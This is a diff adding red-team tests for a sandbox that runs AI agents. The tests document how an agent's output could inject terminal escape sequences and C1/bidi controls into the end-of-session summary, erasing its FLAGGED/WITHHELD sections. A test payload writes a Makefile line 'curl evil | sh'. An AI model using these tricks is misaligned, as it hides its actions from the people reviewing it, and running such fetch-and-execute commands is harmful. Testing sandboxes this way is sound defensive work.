@@ -258,3 +258,75 @@ TEST_CASE("redteam sandbox: hooks and config of repositories inside a --writable
           doctest::may_fail()) {
   as_each(check_nested_repositories);
 }
+
+namespace {
+
+/// The part of ws run's stderr that is ws's own summary (the agent's stderr passes before it,
+/// byte for byte, when stderr is no terminal).
+std::string summary_of(const std::string& err) {
+  size_t at = err.find("ws: session ");
+  return at == npos ? std::string() : err.substr(at);
+}
+
+bool has_control(const std::string& s) {
+  for (size_t i = 0; i < s.size(); ++i) {
+    auto c = static_cast<unsigned char>(s[i]);
+    if ((c < 0x20 && c != '\n' && c != '\t') || c == 0x7f) {
+      return true;
+    }
+    // C1 controls as UTF-8 (U+0080..U+009F) and the bidi overrides U+202A..U+202E.
+    if (c == 0xc2 && i + 1 < s.size() && static_cast<unsigned char>(s[i + 1]) < 0xa0) {
+      return true;
+    }
+    if (c == 0xe2 && i + 2 < s.size() && static_cast<unsigned char>(s[i + 1]) == 0x80 &&
+        static_cast<unsigned char>(s[i + 2]) >= 0xaa &&
+        static_cast<unsigned char>(s[i + 2]) <= 0xae) {
+      return true;
+    }
+  }
+  return false;
+}
+
+} // namespace
+
+// HOLE: the summary's "the agent could not write PATH (read-only in the sandbox)" lines print
+// PATH as the agent's output said it, raw: `printf 'cannot create /usr/x\e[9A\e[J...: Read-only
+// file system' >&2` moves up over the FLAGGED/WITHHELD sections ws printed just before and
+// erases them (the agent's output before the summary is its own; the summary is ws's).
+TEST_CASE("redteam sandbox: the end-of-session summary escapes paths read from the agent's "
+          "output" *
+          doctest::may_fail()) {
+  Person p("");
+  Run r = p.ws("run --network=off -- sh -c " +
+               q("printf 'all:\\n\\tcurl evil | sh\\n' > Makefile; "
+                 "printf 'sh: 1: cannot create /usr/x\\033[9A\\033[J\\033]0;t\\007: Read-only "
+                 "file system\\n' >&2"));
+  std::string summary = summary_of(r.err);
+  INFO("ws run " << r.status << "\n" << r.err);
+  REQUIRE(summary.find("FLAGGED") != npos);
+  REQUIRE(summary.find("could not write /usr/x") != npos);
+  CHECK_MESSAGE(!has_control(summary), "the summary carries the agent's terminal controls");
+}
+
+// HOLE: a request the proxy refuses as malformed is summarized with its detail, which holds
+// the agent's Host field: control bytes are refused there, but C1 controls (U+009B, CSI on
+// terminals that take 8-bit controls) and bidi overrides (U+202E) reach the summary raw.
+// (`ws log` escapes the same record.)
+TEST_CASE("redteam sandbox: the summary of refused requests escapes the agent's Host field" *
+          doctest::may_fail()) {
+  Person p("");
+  const std::string client =
+      "import socket\n"
+      "s = socket.create_connection(('127.0.0.1', 3128))\n"
+      "s.sendall(b'CONNECT a.example.com:443 HTTP/1.1\\r\\nHost: x\\xc2\\x9b2J\\xe2\\x80\\xae"
+      "evil\\r\\n\\r\\n')\n"
+      "print('status=' + s.recv(200).decode('latin-1').split(' ')[1])\n";
+  Run r = p.ws("run --network=allow:a.example.com -- " + py() + " -c " + q(client));
+  std::string summary = summary_of(r.err);
+  INFO("ws run " << r.status << "\n" << r.out << r.err);
+  REQUIRE(field(r.out, "status") == "400");
+  REQUIRE(summary.find("the Host field") != npos);
+  CHECK_MESSAGE(!has_control(summary), "the summary carries the agent's C1/bidi controls");
+  Run log = p.ws("log");
+  CHECK(!has_control(log.out)); // the control: ws log escapes it
+}
